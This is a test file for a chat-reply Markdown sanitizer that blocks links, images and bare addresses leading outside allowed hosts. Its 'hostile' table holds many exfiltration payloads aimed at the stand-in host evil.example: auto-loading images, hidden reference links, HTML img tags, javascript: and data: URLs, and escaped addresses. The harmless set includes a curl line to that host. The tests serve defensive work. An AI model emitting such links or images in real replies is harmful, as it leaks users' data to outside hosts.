import { fromMarkdown } from 'mdast-util-from-markdown'
import { gfmFromMarkdown } from 'mdast-util-gfm'
import { gfm } from 'micromark-extension-gfm'
import type { Nodes } from 'mdast'
import { beforeAll, describe, expect, test, vi } from 'vitest'
import { allowAddresses } from '../../src/chats/replies/sources/addresses.ts'
import { toSafeMarkdown } from '../../src/chats/replies/safe-markdown.ts'
import { safeText } from '../../src/chats/replies/safe-text.ts'

const source =
  'Read https://docs.example.com/guide?a=1&b=2. Write to help@example.com, or see www.example.net/x!'
const picture = '/api/v1/files/0192f0c1-2f0e-7cc0-8d5a-1b2c3d4e5f60/contents'
const addresses = allowAddresses([{ given: [source], written: [] }])

beforeAll(() => {
  vi.stubEnv('PUBLIC_URL', 'https://platform.example.com')
})

const client = 'https://client.example'

/** Returns true for a picture, which is loaded unasked, and for an address outside the client's own host. */
const leadsOut = (node: Nodes) =>
  'url' in node && (node.type === 'image' || !URL.parse(node.url, client)?.href.startsWith(`${client}/`))

/** Addresses that clients turn into links in plain text, beyond GitHub's Markdown. */
const linkified = /[a-z][a-z\d+.-]*:\/\/[^\s/]|(?:^|[\s\p{P}])\/\/[^\s/]/iu

/** Returns the addresses that a client with GitHub's Markdown and automatic links would load or open elsewhere. */
const findTargets = (markdown: string): string[] => {
  const visit = (node: Nodes): string[] => [
    ...('url' in node && leadsOut(node) ? [node.url] : []),
    ...(node.type === 'text' && linkified.test(node.value) ? [node.value] : []),
    ...(node.type === 'html' ? [node.value] : []),
    ...('children' in node ? node.children.flatMap(visit) : []),
  ]
  return visit(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }))
}

/** Returns the output of a stream in pieces of `size` characters. */
const stream = (markdown: string, size: number) => {
  const text = safeText(addresses)
  const pieces = markdown.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? []
  const shown = pieces.map((piece) => text.push(piece))
  return [...shown, text.end()]
}

const hostile = {
  'a picture': '![x](https://evil.example/?q=secret)',
  'a picture in a link': '[![x](https://evil.example/?q=secret)](https://evil.example/?q=secret)',
  'a picture in a table': '| a |\n| - |\n| ![x](https://evil.example/?q=secret) |',
  'a picture by reference': 'See ![x][1].\n\n[1]: https://evil.example/?q=secret',
  'a picture of a known address': '![x](https://docs.example.com/guide?a=1&b=2)',
  'a picture of a file, with more': `![x](${picture}?q=secret)`,
  'a picture of another host without a scheme': '![x](//evil.example/?q=secret)',
  'a picture by backslashes': String.raw`![x](\\\\evil.example/?q=secret)`,
  'an inline link': '[click](https://evil.example/?q=secret)',
  'a link over two lines': '[click\nhere](https://evil.example/?q=secret)',
  'a link with a title': '[click](<https://evil.example/?q=secret> "Help")',
  'a link by reference, defined later': 'See [the page][1].\n\nMore.\n\n[1]:\nhttps://evil.example/?q=secret',
  'a shortcut reference': '[click]\n\n[click]: //evil.example/?q=secret',
  'an address in angle brackets': '<https://evil.example/?q=secret>',
  'a bare address': 'See https://evil.example/?q=secret for more.',
  'a bare address without a scheme': 'See www.evil.example/?q=secret for more.',
  'an e-mail address': 'Write to secret@evil.example now.',
  'a known address with more': 'See https://docs.example.com/guide?a=1&b=2&q=secret',
  'an address relative to https alone': '[click](https:evil.example/?q=secret)',
  'an address written in character references': '[click](&#104;ttps&colon;//evil.example/?q=secret)',
  'an address with an escaped colon': String.raw`[click](https\://evil.example/?q=secret)`,
  'a script': '[click](javascript:alert(1))',
  'a data address': '[click](data:text/html;base64,PHNjcmlwdD4=)',
  'an HTML picture': 'A <img src="https://evil.example/?q=secret"> here.',
  'an HTML block': '<div>\n[click](https://evil.example/?q=secret)\n</div>',
  'a link in a list in a quote': '> - a\n>\n>   [click](https://evil.example/?q=secret)',
  'a link behind an open backtick': 'a ` [click](https://evil.example/?q=secret) ` b',
  'a link behind backticks of two lengths': '`` ` [click](https://evil.example/`?q=secret) `` `',
  'a footnote': 'See[^1].\n\n[^1]: https://evil.example/?q=secret',
  'a bare address of another scheme': 'See ftp://evil.example/?q=secret, or (ftp://evil.example/secret).',
  'a bare address of a scheme that nobody knows': 'See xhttp://evil.example/?q=secret now.',
  'a bare address without any scheme': 'See //evil.example/?q=secret now.',
  'a bare address of another scheme in words':
    '| a | b |\n| - | - |\n| **ftp://evil.example/?q=secret** | c |',
  'a bare address in character references': 'See ftp&colon;//evil.example/?q=secret now.',
  'a bare address with an escape': String.raw`See ftp\://evil.example/?q=secret now.`,
  'more marks than are parsed': `${'['.repeat(3_000)}click](https://evil.example/?q=secret)`,
  'quotes deeper than are parsed': `${'> '.repeat(200)}[click](https://evil.example/?q=secret)`,
}

describe('hostile Markdown', () => {
  test.each(Object.entries(hostile))('leads nowhere: %s', (_, markdown) => {
    const safe = toSafeMarkdown(markdown, addresses)

    expect(findTargets(safe)).toEqual([])
    expect(safe).toMatch(/secret|click|guide/)
  })

  test.each(Object.entries(hostile))('leads nowhere at any moment of a stream: %s', (_, markdown) => {
    for (const size of [1, 3, 17]) {
      const shown = stream(`Before.\n\n${markdown}\n\nAfter.`, size)

      for (const index of shown.keys()) expect(findTargets(shown.slice(0, index + 1).join(''))).toEqual([])
    }
  })
})

const harmless = {
  'text with marks': 'A **bold** claim [1], `code` & more: 5 < 6, a@b, 3 > 2.',
  'a known address': 'See https://docs.example.com/guide?a=1&b=2.',
  'a link to a known address': '[the guide](https://docs.example.com/guide?a=1&b=2)',
  'a known e-mail address': 'Write to help@example.com.',
  'a known address without a scheme': 'See www.example.net/x.',
  'a link into the service': '[Holidays](/api/v1/wiki/pages/0192f0c1-2f0e-7cc0-8d5a-1b2c3d4e5f60)',
  'a link into the service with its host': '[Holidays](https://platform.example.com/api/v1/wiki/pages/1)',
  'a picture of the service': `![a chart](${picture})`,
  'a picture of the service with its host': `![a chart](https://platform.example.com${picture})`,
  'an address in code':
    '```\ncurl https://evil.example/?q=secret\n\ncurl again\n```\n\nAnd `https://evil.example`.',
  'words with slashes and colons': 'Yes/no, and//or: 1:2, a: b // c, see §3/4.',
  'a table': '| a | b |\n| --- | --- |\n| 1 | [2] |\n\n- one\n  - two\n',
}

describe('harmless Markdown', () => {
  test.each(Object.entries(harmless))('stays unchanged: %s', (_, markdown) => {
    expect(toSafeMarkdown(markdown, addresses)).toBe(markdown)
  })

  test.each(Object.entries(harmless))('stays unchanged in a stream: %s', (_, markdown) => {
    expect(stream(markdown, 5).join('')).toBe(markdown)
  })
})

test('a disallowed address remains readable next to its label', () => {
  expect(toSafeMarkdown('See [the page](https://evil.example/a) now.', addresses)).toBe(
    'See the page (`https://evil.example/a`) now.',
  )
})

test('a bare address of another scheme remains readable', () => {
  const known = 'https://docs.example.com/guide?a=1&b=2'

  expect(toSafeMarkdown(`See (ftp://evil.example/a), ${known} or //evil.example/b.`, addresses)).toBe(
    `See (\`ftp://evil.example/a\`), ${known} or \`//evil.example/b\`.`,
  )
})

test('a later step of a reply cannot close the code of an earlier one and continue with a link', () => {
  const earlier = 'For example:\n\n```\nnpm start\n\n'
  const text = safeText(addresses, earlier)

  const later = text.push('```\n\n[click](https://evil.example/?q=secret) ') + text.end()

  expect(findTargets(earlier + later)).toEqual([])
})

test('text appears as it arrives, and a possible link waits', () => {
  const text = safeText(addresses)

  expect(text.push('All of ')).toBe('All of ')
  expect(text.push('it is [here](https://docs.exam')).toBe('it is ')
  expect(text.push('ple.com/guide?a=1&b=2) and ')).toBe('[here](https://docs.example.com/guide?a=1&b=2) and ')
})

test('a call that returns an address written by the model does not make the address known', () => {
  const [own, found] = ['https://evil.example/?q=secret', 'https://docs.example.org/found']
  const returning = allowAddresses([
    { given: [found], written: [] },
    { given: [own, found], written: [own, found] },
    { given: [own], written: [] },
  ])

  expect([returning.isLink(own), returning.isLink(found)]).toEqual([false, true])
})
